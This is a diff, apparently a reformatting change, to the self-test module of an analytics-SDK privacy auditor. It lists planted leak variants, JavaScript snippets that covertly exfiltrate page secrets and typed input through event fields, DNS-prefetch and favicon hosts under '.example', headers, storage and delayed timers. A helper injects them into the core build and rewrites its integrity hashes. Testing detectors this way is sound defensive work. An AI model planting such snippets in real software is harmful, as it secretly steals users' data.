@@ -88,8 +88,11 @@ class Leak:
         return _CORE_PRELUDE + self.js + _END
 
     def matches(self, finding) -> bool:
-        return (finding.channel.startswith(self.channel) and finding.source.startswith(self.source)
-                and self.detail in finding.detail)
+        return (
+            finding.channel.startswith(self.channel)
+            and finding.source.startswith(self.source)
+            and self.detail in finding.detail
+        )
 
 
 LEAKS = [
@@ -214,104 +217,241 @@ LEAKS = [
 
 # A leaky build (the SDK itself compromised): each hides its data from the canary search.
 SDK_LEAKS = [
-    Leak('events-token', 'the data XOR-ed into the events body\'s token',
-         "rewrite = (b) => { b.token = xorhex(secret()).slice(0, 100); };", 'events', 'events-envelope',
-         core=True, detail='token'),
-    Leak('events-sdk', 'a character code as the events body\'s SDK version',
-         "rewrite = (b) => { b.sdk = '0.1.' + (secret().charCodeAt(0) % 10000); };", 'events',
-         'events-envelope', core=True, detail='version'),
-    Leak('events-user', 'the data XOR-ed into 64 hex digits as the user',
-         "rewrite = (b) => b.batch.forEach((e) => { "
-         "e.user = (xorhex(secret()) + '0'.repeat(64)).slice(0, 64); });",
-         'events', 'events-user', core=True),
-    Leak('events-seq', 'a length as a jump in the sequence numbers',
-         "rewrite = (b) => b.batch.forEach((e) => { e.seq += 40 + secret().length % 50; });",
-         'events', 'events-seq', core=True),
-    Leak('events-ts', 'character codes as event times',
-         "rewrite = (b) => b.batch.forEach((e, i) => { "
-         "e.ts = new Date(Date.UTC(2001, 0, 1) + secret().charCodeAt(i) * 1000).toISOString(); });",
-         'events', 'events-ts', core=True),
-    Leak('events-unbound', 'a track event the app never made, its name the XOR-ed data',
-         "rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), "
-         "ts: e.ts, type: 'track', user: e.user, hashed: e.hashed, "
-         "name: 'x' + xorhex(secret()).slice(0, 60)}); };",
-         'events', 'events-unbound', core=True),
-    Leak('events-attributes', 'an attribute the app never passed, the XOR-ed data',
-         "rewrite = (b) => b.batch.forEach((e) => { if (e.type === 'identify') "
-         "e.attributes = Object.assign({}, e.attributes, {ref: xorhex(secret()).slice(0, 200)}); });",
-         'events', 'events-attributes', core=True),
-    Leak('events-page', 'a page view of a URL the page never was at',
-         "rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), "
-         "ts: e.ts, type: 'page', user: e.user, hashed: e.hashed, "
-         "url: origin + '/p/' + xorhex(secret()).slice(0, 12)}); };",
-         'events', 'events-page', core=True),
-    Leak('events-flow', 'a flow event with the XOR-ed data as its step',
-         "rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), "
-         "ts: e.ts, type: 'flow', user: e.user, hashed: e.hashed, flow: 'audit-watch', action: 'stepSeen', "
-         "step: xorhex(secret()).slice(0, 40)}); };",
-         'events', 'events-flow', core=True, extra='&privacy=analytics', detail='step'),
-    Leak('events-group', 'a group the app never joined, its ID the XOR-ed data',
-         "rewrite = (b) => b.batch.forEach((e) => { "
-         "if (e.type === 'track') { e.type = 'group'; delete e.name; "
-         "e.group = xorhex(secret()).slice(0, 64); } });",
-         'events', 'events-group', core=True),
-    Leak('sdk-file-manifest', 'the XOR-ed data as the hash in a chunk\'s file name',
-         "realFetch(me.replace(/userflow-core\\.[0-9a-f]{12}/, "
-         "'userflow-flows.' + xorhex(secret()).slice(0, 12)));",
-         'sdk-file', 'sdk-file-manifest', core=True),
-    Leak('sdk-file-count', 'a bit as a second load of the core file',
-         "realFetch(me, {cache: 'no-store'});", 'sdk-file', 'sdk-file-count', core=True),
-    Leak('content-token', 'the XOR-ed data as the content token',
-         "realFetch(origin + '/v1/content/' + xorhex(secret()).slice(0, 40), "
-         "{cache: 'no-store', credentials: 'omit'});",
-         'content', 'content-token', core=True),
-    Leak('content-count', 'a bit as a second content request at page hide',
-         "host.addEventListener('pagehide', () => content && realFetch(content, "
-         "{keepalive: true, cache: 'no-store', credentials: 'omit'}));",
-         'content', 'content-count', core=True),
-    Leak('storage-value', 'the XOR-ed data kept as a tracked event name',
-         "host.localStorage.setItem('uf:events', JSON.stringify([xorhex(secret()).slice(0, 60)]));",
-         'storage:', 'storage-schema', core=True, detail='never tracked'),
-    Leak('storage-key', 'the XOR-ed data under a key of its own',
-         "host.localStorage.setItem('uf:cfg', xorhex(secret()));", 'storage:', 'storage-schema', core=True,
-         detail='never writes'),
-    Leak('dns-prefetch', 'the XOR-ed data as a host name to prefetch (a DNS query)',
-         "const l = doc.createElement('link'); l.rel = 'dns-prefetch'; "
-         "l.href = '//' + xorhex(secret()).slice(0, 40) + '.example'; doc.head.appendChild(l);",
-         'dns', 'below-http', core=True),
-    Leak('preconnect', 'the XOR-ed data as a host name to preconnect to',
-         "const l = doc.createElement('link'); l.rel = 'preconnect'; "
-         "l.href = 'https://' + xorhex(secret()).slice(0, 40) + '.example'; doc.head.appendChild(l);",
-         'dns', 'below-http', core=True),
-    Leak('socket', 'a connection (no request) to another loopback address',
-         "const l = doc.createElement('link'); l.rel = 'preconnect'; "
-         "l.href = 'http://127.0.0.2:' + (host.location.port || 80); doc.head.appendChild(l);",
-         '', 'below-http', core=True),
-    Leak('page-shape', 'the XOR-ed data as the host of a favicon request',
-         "new host.Image().src = 'http://' + xorhex(secret()).slice(0, 30) + '.example/favicon.ico';",
-         'request', 'unexplained', core=True),
-    Leak('page-header', 'a stored value in a header of a request shaped like the page\'s own',
-         "realFetch(host.location.href.split('#')[0], {headers: {'X-Prefs': "
-         "Object.values(host.localStorage).join('|').slice(0, 500)}});",
-         'header:x-prefs', 'local-storage', core=True),
-    Leak('second-visit', 'typed values kept at page hide and sent on the next visit',
-         "host.addEventListener('pagehide', () => { "
-         "const t = typed(); if (t) host.localStorage.setItem('uf:later', t); });"
-         "const later = host.localStorage.getItem('uf:later');"
-         "if (later) { host.localStorage.removeItem('uf:later'); "
-         "realFetch(origin + '/v1/events?later=' + encodeURIComponent(later), "
-         "{method: 'POST', body: '{}'}); }",
-         'url', 'input-', core=True, detail='second visit'),
-    Leak('late-timer', 'typed values sent by a timer 90 s later',
-         "setTimeout(() => realFetch(origin + '/late?d=' + encodeURIComponent(typed())), 90000);",
-         'url', 'input-', core=True, detail='observation window'),
-    Leak('strict-timing', 'a bit (the secret element) as events held back until page hide',
-         "hold = () => !!doc.getElementById('uf-audit-secret');", 'differential', 'secrets changed',
-         core=True, strict=True, detail='different time'),
-    Leak('default-differential', 'a bit (the secret element) as the last events body sent again at page hide',
-         "host.addEventListener('pagehide', () => { if (doc.getElementById('uf-audit-secret') && last) "
-         "realFetch(...last); });", 'differential', 'secrets changed (default mode)', core=True,
-         differential=True),
+    Leak(
+        'events-token',
+        "the data XOR-ed into the events body's token",
+        'rewrite = (b) => { b.token = xorhex(secret()).slice(0, 100); };',
+        'events',
+        'events-envelope',
+        core=True,
+        detail='token',
+    ),
+    Leak(
+        'events-sdk',
+        "a character code as the events body's SDK version",
+        "rewrite = (b) => { b.sdk = '0.1.' + (secret().charCodeAt(0) % 10000); };",
+        'events',
+        'events-envelope',
+        core=True,
+        detail='version',
+    ),
+    Leak(
+        'events-user',
+        'the data XOR-ed into 64 hex digits as the user',
+        'rewrite = (b) => b.batch.forEach((e) => { '
+        "e.user = (xorhex(secret()) + '0'.repeat(64)).slice(0, 64); });",
+        'events',
+        'events-user',
+        core=True,
+    ),
+    Leak(
+        'events-seq',
+        'a length as a jump in the sequence numbers',
+        'rewrite = (b) => b.batch.forEach((e) => { e.seq += 40 + secret().length % 50; });',
+        'events',
+        'events-seq',
+        core=True,
+    ),
+    Leak(
+        'events-ts',
+        'character codes as event times',
+        'rewrite = (b) => b.batch.forEach((e, i) => { '
+        'e.ts = new Date(Date.UTC(2001, 0, 1) + secret().charCodeAt(i) * 1000).toISOString(); });',
+        'events',
+        'events-ts',
+        core=True,
+    ),
+    Leak(
+        'events-unbound',
+        'a track event the app never made, its name the XOR-ed data',
+        'rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), '
+        "ts: e.ts, type: 'track', user: e.user, hashed: e.hashed, "
+        "name: 'x' + xorhex(secret()).slice(0, 60)}); };",
+        'events',
+        'events-unbound',
+        core=True,
+    ),
+    Leak(
+        'events-attributes',
+        'an attribute the app never passed, the XOR-ed data',
+        "rewrite = (b) => b.batch.forEach((e) => { if (e.type === 'identify') "
+        'e.attributes = Object.assign({}, e.attributes, {ref: xorhex(secret()).slice(0, 200)}); });',
+        'events',
+        'events-attributes',
+        core=True,
+    ),
+    Leak(
+        'events-page',
+        'a page view of a URL the page never was at',
+        'rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), '
+        "ts: e.ts, type: 'page', user: e.user, hashed: e.hashed, "
+        "url: origin + '/p/' + xorhex(secret()).slice(0, 12)}); };",
+        'events',
+        'events-page',
+        core=True,
+    ),
+    Leak(
+        'events-flow',
+        'a flow event with the XOR-ed data as its step',
+        'rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), '
+        "ts: e.ts, type: 'flow', user: e.user, hashed: e.hashed, flow: 'audit-watch', action: 'stepSeen', "
+        'step: xorhex(secret()).slice(0, 40)}); };',
+        'events',
+        'events-flow',
+        core=True,
+        extra='&privacy=analytics',
+        detail='step',
+    ),
+    Leak(
+        'events-group',
+        'a group the app never joined, its ID the XOR-ed data',
+        'rewrite = (b) => b.batch.forEach((e) => { '
+        "if (e.type === 'track') { e.type = 'group'; delete e.name; "
+        'e.group = xorhex(secret()).slice(0, 64); } });',
+        'events',
+        'events-group',
+        core=True,
+    ),
+    Leak(
+        'sdk-file-manifest',
+        "the XOR-ed data as the hash in a chunk's file name",
+        'realFetch(me.replace(/userflow-core\\.[0-9a-f]{12}/, '
+        "'userflow-flows.' + xorhex(secret()).slice(0, 12)));",
+        'sdk-file',
+        'sdk-file-manifest',
+        core=True,
+    ),
+    Leak(
+        'sdk-file-count',
+        'a bit as a second load of the core file',
+        "realFetch(me, {cache: 'no-store'});",
+        'sdk-file',
+        'sdk-file-count',
+        core=True,
+    ),
+    Leak(
+        'content-token',
+        'the XOR-ed data as the content token',
+        "realFetch(origin + '/v1/content/' + xorhex(secret()).slice(0, 40), "
+        "{cache: 'no-store', credentials: 'omit'});",
+        'content',
+        'content-token',
+        core=True,
+    ),
+    Leak(
+        'content-count',
+        'a bit as a second content request at page hide',
+        "host.addEventListener('pagehide', () => content && realFetch(content, "
+        "{keepalive: true, cache: 'no-store', credentials: 'omit'}));",
+        'content',
+        'content-count',
+        core=True,
+    ),
+    Leak(
+        'storage-value',
+        'the XOR-ed data kept as a tracked event name',
+        "host.localStorage.setItem('uf:events', JSON.stringify([xorhex(secret()).slice(0, 60)]));",
+        'storage:',
+        'storage-schema',
+        core=True,
+        detail='never tracked',
+    ),
+    Leak(
+        'storage-key',
+        'the XOR-ed data under a key of its own',
+        "host.localStorage.setItem('uf:cfg', xorhex(secret()));",
+        'storage:',
+        'storage-schema',
+        core=True,
+        detail='never writes',
+    ),
+    Leak(
+        'dns-prefetch',
+        'the XOR-ed data as a host name to prefetch (a DNS query)',
+        "const l = doc.createElement('link'); l.rel = 'dns-prefetch'; "
+        "l.href = '//' + xorhex(secret()).slice(0, 40) + '.example'; doc.head.appendChild(l);",
+        'dns',
+        'below-http',
+        core=True,
+    ),
+    Leak(
+        'preconnect',
+        'the XOR-ed data as a host name to preconnect to',
+        "const l = doc.createElement('link'); l.rel = 'preconnect'; "
+        "l.href = 'https://' + xorhex(secret()).slice(0, 40) + '.example'; doc.head.appendChild(l);",
+        'dns',
+        'below-http',
+        core=True,
+    ),
+    Leak(
+        'socket',
+        'a connection (no request) to another loopback address',
+        "const l = doc.createElement('link'); l.rel = 'preconnect'; "
+        "l.href = 'http://127.0.0.2:' + (host.location.port || 80); doc.head.appendChild(l);",
+        '',
+        'below-http',
+        core=True,
+    ),
+    Leak(
+        'page-shape',
+        'the XOR-ed data as the host of a favicon request',
+        "new host.Image().src = 'http://' + xorhex(secret()).slice(0, 30) + '.example/favicon.ico';",
+        'request',
+        'unexplained',
+        core=True,
+    ),
+    Leak(
+        'page-header',
+        "a stored value in a header of a request shaped like the page's own",
+        "realFetch(host.location.href.split('#')[0], {headers: {'X-Prefs': "
+        "Object.values(host.localStorage).join('|').slice(0, 500)}});",
+        'header:x-prefs',
+        'local-storage',
+        core=True,
+    ),
+    Leak(
+        'second-visit',
+        'typed values kept at page hide and sent on the next visit',
+        "host.addEventListener('pagehide', () => { "
+        "const t = typed(); if (t) host.localStorage.setItem('uf:later', t); });"
+        "const later = host.localStorage.getItem('uf:later');"
+        "if (later) { host.localStorage.removeItem('uf:later'); "
+        "realFetch(origin + '/v1/events?later=' + encodeURIComponent(later), "
+        "{method: 'POST', body: '{}'}); }",
+        'url',
+        'input-',
+        core=True,
+        detail='second visit',
+    ),
+    Leak(
+        'late-timer',
+        'typed values sent by a timer 90 s later',
+        "setTimeout(() => realFetch(origin + '/late?d=' + encodeURIComponent(typed())), 90000);",
+        'url',
+        'input-',
+        core=True,
+        detail='observation window',
+    ),
+    Leak(
+        'strict-timing',
+        'a bit (the secret element) as events held back until page hide',
+        "hold = () => !!doc.getElementById('uf-audit-secret');",
+        'differential',
+        'secrets changed',
+        core=True,
+        strict=True,
+        detail='different time',
+    ),
+    Leak(
+        'default-differential',
+        'a bit (the secret element) as the last events body sent again at page hide',
+        "host.addEventListener('pagehide', () => { if (doc.getElementById('uf-audit-secret') && last) "
+        'realFetch(...last); });',
+        'differential',
+        'secrets changed (default mode)',
+        core=True,
+        differential=True,
+    ),
 ]
 LEAKS += SDK_LEAKS
 
@@ -329,14 +469,15 @@ def leaky_build(dist: Path, leak: Leak) -> Path:
     original = core.read_bytes()
     strict = b'"use strict";'  # the directive stays first: the core runs in strict mode
     head = strict if original.startswith(strict) else b''
-    data = head + b'\n' + leak.core_script().encode() + b'\n' + original[len(head):]
+    data = head + b'\n' + leak.core_script().encode() + b'\n' + original[len(head) :]
     core.write_bytes(data)
     new = 'sha384-' + base64.b64encode(hashlib.sha384(data).digest()).decode()
     manifest['files'][manifest['core']]['sha384'] = new
     loader = out / 'userflow.js'
     loader.write_text(loader.read_text().replace(old, new))
     manifest['files']['userflow.js']['sha384'] = (
-        'sha384-' + base64.b64encode(hashlib.sha384(loader.read_bytes()).digest()).decode())
+        'sha384-' + base64.b64encode(hashlib.sha384(loader.read_bytes()).digest()).decode()
+    )
     (out / 'manifest.json').write_text(json.dumps(manifest, indent=2))
     return out
 
@@ -384,6 +525,8 @@ def self_test(
         caught = any(leak.matches(f) for f in report.findings)
         results.append(Result(leak, caught, report.findings))
         if progress:
-            progress(f'self-test {len(results)}/{len(LEAKS)}: {leak.name} '
-                     f'{"caught" if caught else "MISSED"} ({report.seconds:.1f} s)')
+            progress(
+                f'self-test {len(results)}/{len(LEAKS)}: {leak.name} '
+                f'{"caught" if caught else "MISSED"} ({report.seconds:.1f} s)'
+            )
     return results
